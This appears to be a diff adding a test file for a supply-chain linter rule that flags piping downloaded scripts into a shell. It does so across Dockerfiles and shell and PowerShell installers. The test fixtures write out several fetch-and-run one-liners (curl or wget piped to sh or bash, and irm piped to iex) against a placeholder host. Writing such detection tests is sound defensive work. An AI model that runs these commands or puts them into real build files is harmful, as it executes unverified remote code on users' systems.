@@ -1,0 +1,36 @@
+import { pipeToShell } from '../../../../src/engine/planes/supply-chain/pipe-to-shell.js';
+import { cases, edit, wholeAndBare } from '../cases.js';
+import { describeRule } from '../rule-tester.js';
+
+describeRule(pipeToShell, {
+  invalid: wholeAndBare(
+    cases(
+      [
+        ['Dockerfile', 'FROM a:1\n', 'FROM a:1\nRUN curl -fsSL https://x.example/i.sh | sh\n', '2 warn'],
+        [
+          'Dockerfile',
+          'FROM a:1\n',
+          'FROM a:1\nRUN curl -fsSL https://x.example/i.sh \\\n  | sudo -E bash -s -- -y\n',
+          '3 warn',
+        ],
+        ['install.sh', '#!/bin/sh\n', '#!/bin/sh\nbash <(curl -s https://x.example/i.sh)\n', '2 warn'],
+        ['install.sh', '#!/bin/sh\n', '#!/bin/sh\nsh -c "$(wget -qO- https://x.example/i.sh)"\n', '2 warn'],
+        ['install.ps1', '# a\n', '# a\nirm https://x.example/i.ps1 | iex\n', '2 warn'],
+      ],
+      (path, before, after, finding) => ({ files: edit(path, before, after), findings: [finding] }),
+    ),
+  ),
+  valid: cases(
+    [
+      ['Dockerfile', 'FROM a:1\n', 'FROM a:1\nRUN curl -fsSL https://x.example/i.sh | sha256sum -c\n'],
+      [
+        'Dockerfile',
+        'FROM a:1\nRUN curl https://x.example/1.sh | sh\n',
+        'FROM a:1\nRUN curl https://x.example/2.sh | sh\n',
+      ],
+      ['Dockerfile', 'FROM a:1\n', 'FROM a:1\n# curl https://x.example/i.sh | sh\n'],
+      ['README.md', 'a\n', 'a\n    curl https://x.example/i.sh | sh\n'],
+    ],
+    (path, before, after) => ({ files: edit(path, before, after) }),
+  ),
+});
